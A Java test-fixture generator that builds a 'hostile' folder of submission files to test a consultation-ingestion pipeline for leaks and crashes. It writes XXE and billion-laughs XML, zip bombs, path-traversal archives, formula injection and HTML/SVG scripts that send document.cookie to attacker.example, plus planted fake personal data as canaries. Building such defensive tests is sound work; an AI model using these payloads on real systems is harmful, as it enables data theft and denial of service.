package eu.chorus.hostile;

import java.awt.Color;
import java.awt.Font;
import java.awt.Graphics2D;
import java.awt.RenderingHints;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.Writer;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory;
import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;

/**
 * Writes the hostile export ({@code data-samples/hostile/}): an export folder whose files are
 * broken, malicious or awkward in the ways real consultation inboxes are, one submission per file
 * so that the manifest shows what became of each. The two big files (a text of at least 100 MB, a
 * PDF of thousands of pages) are written only on request, at test time, never committed.
 *
 * <p>Regenerate the committed folder with {@code mvn -B -q -o -pl jobs test-compile exec:java
 * -Dexec.classpathScope=test -Dexec.mainClass=eu.chorus.hostile.HostileCorpus
 * -Dexec.args=../data-samples/hostile}.
 *
 * <p>The XXE payloads point at {@link #CANARY_FILE} beside the export: a test writes a secret there
 * and checks that it appears in no output.
 */
public final class HostileCorpus {

  /** Relative to the export folder: the local file the XXE payloads try to read. */
  public static final String CANARY_FILE = "xxe-canary.txt";

  /** What the canary file holds; it must never appear in an output. */
  public static final String CANARY_SECRET = "CANARY-XXE-SECRET-4417";

  /** Personal data planted in anonymous submissions; none may appear in any output. */
  public static final List<String> PERSONAL_CANARIES =
      List.of(
          "Margarethe Vollenweider",
          "Quentin Abernathy-Holt",
          "m.vollenweider@example-mail.eu",
          "q.abernathy@privatebox.example",
          "+49 30 5557 1234",
          "+33 1 55 44 33 22",
          "Vollenweider",
          "Abernathy");

  /**
   * The text at the bottom of {@code HX-ZIP-DEEP}, deeper than Chorus reads: it must not appear in
   * any output.
   */
  public static final String TOO_DEEP = "NESTED-TOO-DEEP-TEXT";

  /** The organisation of a PUBLIC respondent: it must stay in submissions.csv. */
  public static final String PUBLIC_ORGANISATION = "Open Models Alliance Europe";

  /** The organisation of an ANONYMOUS respondent: it must not appear in any output. */
  public static final String ANONYMOUS_ORGANISATION = "Haldane Robotics Cooperative";

  /** An anonymous respondent's file, named after them: the name must appear in no output. */
  public static final String ANONYMOUS_FILE = "HX-NAME-ANON/Ottilie_Brandtmeyer_response.txt";

  /**
   * A folder under files/ that submissions.csv does not list, named after its author: a submission
   * of its own, anonymous, whose id would be the folder's name.
   */
  public static final String UNLISTED_PERSON_FOLDER = "Jonas Pettersson-Lindqvist";

  /**
   * Parts of the names above (and of the entries {@link #writeUnreadEntries} adds): in no output,
   * no state.
   */
  public static final List<String> NAME_CANARIES =
      List.of("Brandtmeyer", "Ottilie", "Pettersson", "Lindqvist");

  /**
   * The organisation of an ANONYMOUS respondent who disguises contact details and signs in Italian
   * (no NER model): a word its text also uses in lower case ("tessera sanitaria"), which stays.
   */
  public static final String DISGUISED_ORGANISATION = "Tessera";

  /**
   * That respondent's text: addresses spelled out, with "(at)", "[at] [dot]", a full-width ＠, a
   * zero-width space and a soft hyphen; phones with no-break and narrow no-break spaces, en-dashes,
   * dots, "+CC (0)"; handles and profile addresses; a name after a title, an Italian closing ending
   * a paragraph before the name, a German closing; and what must not be taken for any of them.
   */
  public static final String DISGUISED_TEXT =
      "Risposta anonima alla consultazione sul Codice di buone pratiche.\n\n"
          + "Sosteniamo le misure di trasparenza del Codice. Tessera ritiene che la tessera sanitaria non sia un modello; "
          + "TESSERA chiede chiarezza sull'articolo 53. La Dott.ssa Ermenegilda Pacciardi ha curato la sezione sui dati; "
          + "Pacciardi resta a disposizione.\n\n"
          + "We also ask at what point the obligations of Article 53(1) and Directive (EU) 2019/790 apply. The metadata "
          + "of 01.02.2024 and the figures for 2022 2023 2024 (12 500 000 EUR) are in the annex.\n\n"
          + "Per contatti: ludovica dot serravalle at castelmare dot example, lserravalle(at)pietrasanta.example, "
          + "ermenegilda [at] valdorcia [dot] example, w.oberhauser\uFF20tannenwald.example, "
          + "kon\u200Btakt@eisenkappel.example, in\u00ADfo@rabenstein.example.\n\n"
          + "Tel. +39\u00A0055\u00A0123\u00A04567, cell. 06\u202F98\u202F76\u202F54\u202F32, 030\u20138877\u20136655, "
          + "0211.987.6543, +49 (0)89 4455 6677.\n\n"
          + "Seguiteci su @ludoserra_it, twitter.com/ludoserra, https://www.linkedin.com/in/ludovica-serravalle-4711 "
          + "e @wobhauser@mastodon.example.\n\n"
          + "Mit freundlichen Grüßen Wendelin Oberhauser\n\n"
          + "Cordiali saluti,\n\n"
          + "Ludovica Serravalle\n";

  /** Planted in {@link #DISGUISED_TEXT}; none may appear in any output. */
  public static final List<String> DISGUISED_CANARIES =
      List.of(
          DISGUISED_ORGANISATION,
          "TESSERA",
          "Ludovica",
          "ludovica",
          "Serravalle",
          "serravalle",
          "Ermenegilda",
          "ermenegilda",
          "Pacciardi",
          "Wendelin",
          "Oberhauser",
          "oberhauser",
          "castelmare",
          "pietrasanta",
          "valdorcia",
          "tannenwald",
          "eisenkappel",
          "rabenstein",
          "055\u00A0123\u00A04567",
          "98\u202F76\u202F54",
          "8877\u20136655",
          "987.6543",
          "4455 6677",
          "ludoserra",
          "wobhauser");

  /**
   * What must stay of {@link #DISGUISED_TEXT}: ordinary words and numbers shaped like names,
   * addresses or phones.
   */
  public static final List<String> DISGUISED_KEPT =
      List.of(
          "tessera sanitaria",
          "at what point",
          "Article 53(1)",
          "2019/790",
          "metadata",
          "01.02.2024",
          "2022 2023 2024",
          "12 500 000 EUR",
          "Cordiali saluti,");

  /** A PUBLIC organisation name that a spreadsheet would evaluate as a formula. */
  public static final String FORMULA_ORGANISATION =
      "=HYPERLINK(\"https://attacker.example\",\"Open\")";

  private static final String TEXT =
      "We support the transparency measures of the draft Code of Practice. "
          + "Providers of general-purpose AI models should document their training data and publish a "
          + "summary of the copyright policy they follow.";

  /** A Polish response signed from Czechia and Hungary: letters that Windows-1252 would misread. */
  public static final String CENTRAL_EUROPEAN =
      "Stanowisko w sprawie kodeksu praktyk: popieramy obowiązki "
          + "przejrzystości dla dostawców modeli ogólnego przeznaczenia. Źródła danych treningowych muszą być jawne, "
          + "a mniejsze przedsiębiorstwa powinny mieć łagodniejsze zasady – żądamy też zgłaszania śladów użycia.\n\n"
          + "Podpisy: Jiří Dvořák (Brno), Zoltán Kővári (Győr).";

  private final Path root;
  private final Path files;
  private final Map<String, List<String>> submissions = new LinkedHashMap<>();
  private final List<String> unlisted = new ArrayList<>();
  private final Map<String, String[]> meta = new LinkedHashMap<>();
  private final Random random = new Random(20240730L);

  private HostileCorpus(Path root) throws IOException {
    this.root = root;
    this.files = root.resolve("files");
    Files.createDirectories(files);
  }

  /**
   * Writes the small hostile export into {@code root}; returns the files written, relative to
   * files/ (listed in submissions.csv or not).
   */
  public static List<String> writeSmall(Path root) throws IOException {
    HostileCorpus c = new HostileCorpus(root);
    c.writeAll();
    c.writeMetadata();
    return c.listed();
  }

  /**
   * Writes the small export plus the big files (a text of {@code bigTextMb} MB and a PDF of {@code
   * pdfPages} pages).
   */
  public static List<String> writeWithBigFiles(Path root, int bigTextMb, int pdfPages)
      throws IOException {
    HostileCorpus c = new HostileCorpus(root);
    c.writeAll();
    c.bigText("HX-BIG-TEXT", "huge-submission.txt", bigTextMb);
    c.manyPagesPdf("HX-BIG-PDF", "thousands-of-pages.pdf", pdfPages);
    c.writeMetadata();
    return c.listed();
  }

  public static void main(String[] args) throws IOException {
    Path out = Path.of(args.length > 0 ? args[0] : "data-samples/hostile");
    List<String> written = writeSmall(out);
    System.out.println(written.size() + " hostile files written to " + out);
  }

  private void writeAll() throws IOException {
    byte[] pdf = textPdf(TEXT, 3);
    byte[] docx =
        docx(
            paragraphs(TEXT, "Transparency obligations must be proportionate for small providers."),
            "");
    put("HX-01", "corrupt.pdf", corrupt(pdf));
    put("HX-02", "truncated.pdf", java.util.Arrays.copyOf(pdf, pdf.length * 3 / 5));
    put("HX-03", "corrupt.docx", corrupt(docx));
    put("HX-04", "truncated.docx", java.util.Arrays.copyOf(docx, docx.length / 2));
    put("HX-05", "encrypted-user-password.pdf", encryptedPdf("owner-secret", "user-secret"));
    put("HX-06", "encrypted-owner-password-only.pdf", encryptedPdf("owner-secret", ""));
    put("HX-07", "empty.pdf", new byte[0]);
    put("HX-08", "binary-junk.pdf", junk(64 * 1024));
    put("HX-09", "actually-a-word-file.pdf", docx);
    put(
        "HX-10",
        "windows-1252.txt",
        encoded(
            "Réponse à la consultation : nous soutenons l’obligation de transparence – coût estimé 5 000 €.\n\n"
                + "Les fournisseurs doivent publier un résumé des données d’entraînement.",
            Charset.forName("windows-1252")));
    put(
        "HX-11",
        "utf-16.txt",
        utf16(
            "Stellungnahme: Wir begrüßen die Transparenzpflichten für Anbieter "
                + "von KI-Modellen mit allgemeinem Verwendungszweck. Größere Anbieter müssen mehr tun."));
    put("HX-12", "nested-zip-bomb.zip", zipBomb("volume-%d.zip", "part-%d.zip"));
    put("HX-13", "path-traversal.zip", traversalZip());
    put(
        "HX-14",
        "xxe.docx",
        docx(paragraphs(TEXT, "Secret follows: &xxe;"), xxeDoctype("w:document")));
    put(
        "HX-15",
        "billion-laughs.docx",
        docx(paragraphs(TEXT, "&lol9;"), laughsDoctype("w:document")));
    put(
        "HX-16",
        "xxe.svg",
        utf8(
            "<?xml version=\"1.0\"?>\n"
                + xxeDoctype("svg")
                + "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"50\"><title>Our position</title>"
                + "<text x=\"0\" y=\"20\">"
                + TEXT
                + " &xxe;</text></svg>\n"));
    put(
        "HX-17",
        "billion-laughs.svg",
        utf8(
            "<?xml version=\"1.0\"?>\n"
                + laughsDoctype("svg")
                + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>"
                + TEXT
                + " &lol9;</text></svg>\n"));
    put(
        "HX-18",
        "xxe.xml",
        utf8(
            "<?xml version=\"1.0\"?>\n"
                + xxeDoctype("response")
                + "<response><position>"
                + TEXT
                + "</position><note>&xxe;</note></response>\n"));
    put(
        "HX-19",
        "billion-laughs.xml",
        utf8(
            "<?xml version=\"1.0\"?>\n"
                + laughsDoctype("response")
                + "<response><position>"
                + TEXT
                + "</position><note>&lol9;</note></response>\n"));
    put(
        "HX-20",
        "scripts-and-handlers.html",
        utf8(
            "<!DOCTYPE html><html><head><title>Response</title>"
                + "<script>fetch('https://attacker.example/steal?c='+document.cookie)</script></head>"
                + "<body onload=\"alert('onload')\"><h1>Our response</h1><p>"
                + TEXT
                + "</p>"
                + "<img src=\"x\" onerror=\"alert('onerror')\"><a href=\"javascript:alert('link')\">Annex</a>"
                + "<script>document.write('<p>INJECTED-BY-SCRIPT</p>')</script>"
                + "<p onclick=\"alert('click')\">Small providers need proportionate obligations.</p></body></html>\n"));
    put("HX-21", "nested-attachments.eml", utf8(nestedEml()));
    put(
        "HX-22",
        "scanned-image-only.pdf",
        scannedPdf("Whistleblower protection must be strengthened."));
    put("HX-23", "position paper (final version).txt", utf8(TEXT));
    put(
        "HX-24",
        "prise de position – réponse à l’AI Office.txt",
        utf8(
            "Nous demandons des obligations proportionnées pour les petites entreprises européennes."));
    put("HX-25", "line\nbreak in name.txt", utf8(TEXT));
    put(
        "HX-26",
        "formula-injection.txt",
        utf8("=HYPERLINK(\"https://attacker.example\",\"click\")\n\n" + TEXT));
    meta.put("HX-26", new String[] {"OTHER", FORMULA_ORGANISATION, "BE", "en", "PUBLIC"});
    put("HX-ZIP-DEEP", "nested-20-levels.zip", deeplyNestedZip(20));
    put("HX-ZIP-RENAMED", "renamed-inner-archives.zip", zipBomb("annex-%d.docx", "data-%d.dat"));
    put(
        "HX-SVG-SCRIPT",
        "script-and-style.svg",
        utf8(
            "<?xml version=\"1.0\"?>\n"
                + "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:h=\"http://www.w3.org/1999/xhtml\" width=\"400\">"
                + "<style>text { font: 12px sans-serif } /* SVG-STYLE-PAYLOAD */</style>"
                + "<script type=\"text/javascript\"><![CDATA[fetch('https://attacker.example/steal?c=' + document.cookie); "
                + "document.title = 'INJECTED-BY-SVG-SCRIPT';]]></script>"
                + "<text x=\"0\" y=\"20\" onclick=\"alert('click')\">"
                + TEXT
                + "</text>"
                + "<foreignObject width=\"400\" height=\"40\"><h:div><h:script>alert('INJECTED-BY-SVG-SCRIPT')</h:script>"
                + "<h:p>Small providers need proportionate obligations.</h:p></h:div></foreignObject></svg>\n"));
    put("HX-PDF-NO-PAGES", "no-pages.pdf", textPdf(TEXT, 0));
    put(
        "HX-ENC-1250",
        "windows-1250.txt",
        encoded(CENTRAL_EUROPEAN, Charset.forName("windows-1250")));
    personalData();
    namedAfterPeople();
    Files.writeString(root.resolve(CANARY_FILE), CANARY_SECRET + "\n", StandardCharsets.UTF_8);
  }

  /**
   * Planted personal data: an anonymous respondent names people, e-mails and phones, another one
   * disguises them ({@link #DISGUISED_TEXT}); a public one names its organisation.
   */
  private void personalData() throws IOException {
    String anonymous =
        "Response submitted on behalf of "
            + ANONYMOUS_ORGANISATION
            + ".\n\n"
            + "My name is Margarethe Vollenweider and I lead our compliance team together with "
            + "Quentin Abernathy-Holt. We support the transparency measures of the draft Code. "
            + "Providers should document their training data.\n\n"
            + "For questions, write to m.vollenweider@example-mail.eu or q.abernathy@privatebox.example, "
            + "or call +49 30 5557 1234 or +33 1 55 44 33 22. Margarethe Vollenweider will answer.";
    put("HX-PII-ANON", "anonymous-response.txt", utf8(anonymous));
    meta.put(
        "HX-PII-ANON", new String[] {"COMPANY", ANONYMOUS_ORGANISATION, "DE", "en", "ANONYMOUS"});
    String open =
        "Response of the "
            + PUBLIC_ORGANISATION
            + ".\n\n"
            + "The "
            + PUBLIC_ORGANISATION
            + " supports the copyright policy measures of the draft Code.";
    put("HX-PII-DISGUISED", "anonymous-disguised.txt", utf8(DISGUISED_TEXT));
    meta.put(
        "HX-PII-DISGUISED",
        new String[] {"OTHER", DISGUISED_ORGANISATION, "IT", "it", "ANONYMOUS"});
    put("HX-PII-PUBLIC", "public-response.txt", utf8(open));
    meta.put("HX-PII-PUBLIC", new String[] {"NGO", PUBLIC_ORGANISATION, "BE", "en", "PUBLIC"});
  }

  /**
   * File and folder names that name anonymous respondents: a listed anonymous respondent's {@code
   * Ottilie_Brandtmeyer_response.txt}, and a folder named after its author that submissions.csv
   * does not list. The texts name nobody: only the names are under test.
   */
  private void namedAfterPeople() throws IOException {
    String submission = ANONYMOUS_FILE.substring(0, ANONYMOUS_FILE.indexOf('/'));
    put(submission, ANONYMOUS_FILE.substring(submission.length() + 1), utf8(TEXT));
    meta.put(submission, new String[] {"OTHER", "", "AT", "en", "ANONYMOUS"});
    Path letter = files.resolve(UNLISTED_PERSON_FOLDER).resolve("letter.txt");
    Files.createDirectories(letter.getParent());
    Files.write(
        letter, utf8("Open letter. Small providers need proportionate obligations. " + TEXT));
    unlisted.add(UNLISTED_PERSON_FOLDER + "/letter.txt");
  }

  /**
   * Adds, at test time, the entries under files/ that are not regular files or whose names do not
   * decode (never committed: git and its tools would mangle them), each unlisted, beside listed
   * files: in {@code HX-23} (public) a symbolic link to the canary file outside files/, a FIFO
   * (which blocks whoever opens it) and a name with a byte that is not UTF-8 ({@code
   * annex-%FF.txt}); in the anonymous respondent's folder a link named after the respondent and a
   * name with such a byte. POSIX only (uses {@code sh}, {@code mkfifo}).
   */
  public static void writeUnreadEntries(Path root) throws IOException, InterruptedException {
    Path files = root.resolve("files");
    Files.createSymbolicLink(files.resolve("HX-23/annex-link.txt"), Path.of("../..", CANARY_FILE));
    String anonymous = ANONYMOUS_FILE.substring(0, ANONYMOUS_FILE.indexOf('/'));
    Files.createSymbolicLink(
        files.resolve(anonymous).resolve("Ottilie_Brandtmeyer_cv.pdf"),
        Path.of(ANONYMOUS_FILE.substring(anonymous.length() + 1)));
    // Java cannot name a file with bytes that are not UTF-8 (in a UTF-8 locale): the shell can.
    Process p =
        new ProcessBuilder(
                "sh",
                "-c",
                "mkfifo \"$1/HX-23/annex-pipe\""
                    + " && printf 'annex' > \"$1/HX-23/$(printf 'annex-\\377.txt')\""
                    + " && printf 'notes' > \"$1/"
                    + anonymous
                    + "/$(printf 'Brandtmeyer-\\377.txt')\"",
                "sh",
                files.toString())
            .redirectErrorStream(true)
            .start();
    String output = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    if (p.waitFor() != 0) {
      throw new IOException("could not create the FIFO and the undecodable names: " + output);
    }
  }

  private void put(String submission, String name, byte[] content) throws IOException {
    String relative = submission + "/" + name;
    Path target = files.resolve(relative);
    Files.createDirectories(target.getParent());
    Files.write(target, content);
    submissions.computeIfAbsent(submission, k -> new ArrayList<>()).add(relative);
  }

  private List<String> listed() {
    return java.util.stream.Stream.concat(
            submissions.values().stream().flatMap(List::stream), unlisted.stream())
        .sorted()
        .toList();
  }

  private void writeMetadata() throws IOException {
    try (Writer w =
            Files.newBufferedWriter(root.resolve("submissions.csv"), StandardCharsets.UTF_8);
        CSVPrinter p = new CSVPrinter(w, CSVFormat.RFC4180)) {
      p.printRecord(
          "submission_id",
          "submitted_at",
          "respondent_type",
          "organisation",
          "country",
          "language",
          "consent",
          "files");
      for (Map.Entry<String, List<String>> e : submissions.entrySet()) {
        String[] m =
            meta.getOrDefault(
                e.getKey(),
                new String[] {"OTHER", "Hostile Test " + e.getKey(), "BE", "", "PUBLIC"});
        p.printRecord(
            e.getKey(),
            "2024-07-30T10:00:00Z",
            m[0],
            m[1],
            m[2],
            m[3],
            m[4],
            String.join(";", e.getValue()));
      }
    }
  }

  // ---- formats

  private static byte[] utf8(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] encoded(String s, Charset charset) {
    return s.getBytes(charset);
  }

  private static byte[] utf16(String s) {
    // getBytes(UTF_16) writes a big-endian byte-order mark first.
    return s.getBytes(StandardCharsets.UTF_16);
  }

  private byte[] junk(int size) {
    byte[] b = new byte[size];
    random.nextBytes(b);
    return b;
  }

  /** Overwrites a stretch in the middle of the file with random bytes. */
  private byte[] corrupt(byte[] good) {
    byte[] b = good.clone();
    int from = b.length / 3;
    byte[] noise = junk(Math.max(16, b.length / 3));
    System.arraycopy(noise, 0, b, from, Math.min(noise.length, b.length - from));
    return b;
  }

  static byte[] textPdf(String text, int pages) throws IOException {
    try (PDDocument doc = new PDDocument();
        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      writePages(doc, text, pages);
      doc.save(out);
      return out.toByteArray();
    }
  }

  private static void writePages(PDDocument doc, String text, int pages) throws IOException {
    PDType1Font font = new PDType1Font(Standard14Fonts.FontName.HELVETICA);
    for (int i = 1; i <= pages; i++) {
      PDPage page = new PDPage();
      doc.addPage(page);
      try (PDPageContentStream s = new PDPageContentStream(doc, page)) {
        s.beginText();
        s.setFont(font, 10);
        s.newLineAtOffset(50, 700);
        s.showText("Page " + i + ". " + text.substring(0, Math.min(text.length(), 90)));
        s.newLineAtOffset(0, -14);
        s.showText(text.substring(Math.min(text.length(), 90), Math.min(text.length(), 180)));
        s.endText();
      }
    }
  }

  private static byte[] encryptedPdf(String ownerPassword, String userPassword) throws IOException {
    try (PDDocument doc = new PDDocument();
        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      writePages(doc, TEXT, 2);
      StandardProtectionPolicy policy =
          new StandardProtectionPolicy(ownerPassword, userPassword, new AccessPermission());
      policy.setEncryptionKeyLength(128);
      doc.protect(policy);
      doc.save(out);
      return out.toByteArray();
    }
  }

  /** An image-only PDF page showing {@code line}: text only OCR can read. */
  public static byte[] scannedPdf(String line) throws IOException {
    BufferedImage image = new BufferedImage(1275, 400, BufferedImage.TYPE_BYTE_GRAY);
    Graphics2D g = image.createGraphics();
    g.setColor(Color.WHITE);
    g.fillRect(0, 0, image.getWidth(), image.getHeight());
    g.setColor(Color.BLACK);
    g.setRenderingHint(
        RenderingHints.KEY_TEXT_ANTIALIASING, RenderingHints.VALUE_TEXT_ANTIALIAS_ON);
    g.setFont(new Font(Font.SERIF, Font.PLAIN, 40));
    g.drawString(line, 60, 200);
    g.dispose();
    try (PDDocument doc = new PDDocument();
        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      PDPage page = new PDPage();
      doc.addPage(page);
      PDImageXObject scan = LosslessFactory.createFromImage(doc, image);
      try (PDPageContentStream s = new PDPageContentStream(doc, page)) {
        s.drawImage(scan, 0, 500, 612, 192);
      }
      doc.save(out);
      return out.toByteArray();
    }
  }

  private static String paragraphs(String... texts) {
    StringBuilder b = new StringBuilder();
    for (String t : texts) {
      b.append("<w:p><w:r><w:t>").append(t).append("</w:t></w:r></w:p>");
    }
    return b.toString();
  }

  /** A minimal WordprocessingML package; {@code doctype} goes before the document element. */
  private static byte[] docx(String body, String doctype) throws IOException {
    Map<String, String> parts = new LinkedHashMap<>();
    parts.put(
        "[Content_Types].xml",
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
            + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
            + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
            + "<Override PartName=\"/word/document.xml\" "
            + "ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>");
    parts.put(
        "_rels/.rels",
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" "
            + "Target=\"word/document.xml\"/></Relationships>");
    parts.put(
        "word/document.xml",
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + doctype
            + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
            + body
            + "</w:body></w:document>");
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (Map.Entry<String, String> p : parts.entrySet()) {
        entry(zip, p.getKey(), utf8(p.getValue()));
      }
    }
    return bytes.toByteArray();
  }

  private String xxeDoctype(String rootElement) {
    String canary = root.toAbsolutePath().resolve(CANARY_FILE).toUri().toString();
    return "<!DOCTYPE " + rootElement + " [<!ENTITY xxe SYSTEM \"" + canary + "\">]>";
  }

  private static String laughsDoctype(String rootElement) {
    StringBuilder b = new StringBuilder("<!DOCTYPE " + rootElement + " [<!ENTITY lol0 \"lol\">");
    for (int i = 1; i <= 9; i++) {
      String prev = "&lol" + (i - 1) + ";";
      b.append("<!ENTITY lol").append(i).append(" \"").append(prev.repeat(10)).append("\">");
    }
    return b.append("]>").toString();
  }

  private static void entry(ZipOutputStream zip, String name, byte[] content) throws IOException {
    zip.putNextEntry(new ZipEntry(name));
    zip.write(content);
    zip.closeEntry();
  }

  /**
   * Five archives of five archives of a 20 MB text each: 0.5 GB from a few kilobytes. The inner
   * archives are named by the two patterns (e.g. {@code volume-%d.zip}, or {@code annex-%d.docx}
   * for archives that do not say they are).
   */
  private static byte[] zipBomb(String outerNames, String innerNames) throws IOException {
    byte[] inner =
        zipOf("filler.txt", "a".repeat(20 * 1024 * 1024).getBytes(StandardCharsets.US_ASCII));
    ByteArrayOutputStream middle = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(middle)) {
      for (int i = 0; i < 5; i++) {
        entry(zip, String.format(Locale.ROOT, innerNames, i), inner);
      }
    }
    ByteArrayOutputStream outer = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(outer)) {
      for (int i = 0; i < 5; i++) {
        entry(zip, String.format(Locale.ROOT, outerNames, i), middle.toByteArray());
      }
    }
    return outer.toByteArray();
  }

  /**
   * Archives in archives, {@code levels} deep and a kilobyte or two in all: a letter on the first
   * level, {@link #TOO_DEEP} on the last, below the depth Chorus reads.
   */
  private static byte[] deeplyNestedZip(int levels) throws IOException {
    byte[] archive = zipOf("deepest.txt", utf8(TOO_DEEP));
    for (int level = levels - 1; level >= 1; level--) {
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
        if (level == 1) {
          entry(zip, "letter.txt", utf8(TEXT));
        }
        entry(zip, "level-" + (level + 1) + ".zip", archive);
      }
      archive = bytes.toByteArray();
    }
    return archive;
  }

  private static byte[] zipOf(String name, byte[] content) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      entry(zip, name, content);
    }
    return bytes.toByteArray();
  }

  private static byte[] traversalZip() throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      entry(zip, "letter.txt", utf8(TEXT));
      entry(
          zip,
          "../../../../tmp/chorus-escaped.txt",
          utf8("TRAVERSAL-PAYLOAD escaped the archive folder"));
      entry(zip, "annex/../../outside.txt", utf8("TRAVERSAL-PAYLOAD second escape"));
      entry(zip, "/etc/chorus-absolute.txt", utf8("TRAVERSAL-PAYLOAD absolute path"));
    }
    return bytes.toByteArray();
  }

  private static String nestedEml() throws IOException {
    String annexZip =
        Base64.getMimeEncoder()
            .encodeToString(
                zipOf(
                    "annex/position.txt",
                    utf8("Annex: codes of practice should be reviewed every two years.")));
    String docx =
        Base64.getMimeEncoder()
            .encodeToString(
                docx(
                    paragraphs(
                        "Forwarded attachment: we oppose mandatory watermarking of all outputs."),
                    ""));
    return String.join(
        "\r\n",
        "From: Consultation Desk <desk@consultation.example>",
        "To: AI Office <ai-office@consultation.example>",
        "Subject: Our response with annexes",
        "Date: Tue, 30 Jul 2024 10:00:00 +0200",
        "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=\"outer-boundary\"",
        "",
        "--outer-boundary",
        "Content-Type: text/plain; charset=UTF-8",
        "",
        TEXT,
        "--outer-boundary",
        "Content-Type: message/rfc822",
        "Content-Disposition: attachment; filename=\"forwarded.eml\"",
        "",
        "From: Member <member@consultation.example>",
        "Subject: Fwd: annex",
        "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=\"inner-boundary\"",
        "",
        "--inner-boundary",
        "Content-Type: text/plain; charset=UTF-8",
        "",
        "Inner message: see the two attachments.",
        "--inner-boundary",
        "Content-Type: application/zip; name=\"annex.zip\"",
        "Content-Transfer-Encoding: base64",
        "Content-Disposition: attachment; filename=\"annex.zip\"",
        "",
        annexZip,
        "--inner-boundary",
        "Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document; name=\"note.docx\"",
        "Content-Transfer-Encoding: base64",
        "Content-Disposition: attachment; filename=\"note.docx\"",
        "",
        docx,
        "--inner-boundary--",
        "--outer-boundary--",
        "");
  }

  // ---- big files, test time only

  private void bigText(String submission, String name, int megabytes) throws IOException {
    String relative = submission + "/" + name;
    Path target = files.resolve(relative);
    Files.createDirectories(target.getParent());
    byte[] paragraph = utf8(TEXT + "\n\n");
    long want = (long) megabytes * 1024 * 1024;
    try (OutputStream out =
        new java.io.BufferedOutputStream(Files.newOutputStream(target), 1 << 20)) {
      for (long written = 0; written < want; written += paragraph.length) {
        out.write(paragraph);
      }
    }
    submissions.computeIfAbsent(submission, k -> new ArrayList<>()).add(relative);
  }

  private void manyPagesPdf(String submission, String name, int pages) throws IOException {
    String relative = submission + "/" + name;
    Path target = files.resolve(relative);
    Files.createDirectories(target.getParent());
    try (PDDocument doc = new PDDocument()) {
      writePages(doc, TEXT, pages);
      doc.save(target.toFile());
    }
    submissions.computeIfAbsent(submission, k -> new ArrayList<>()).add(relative);
  }
}
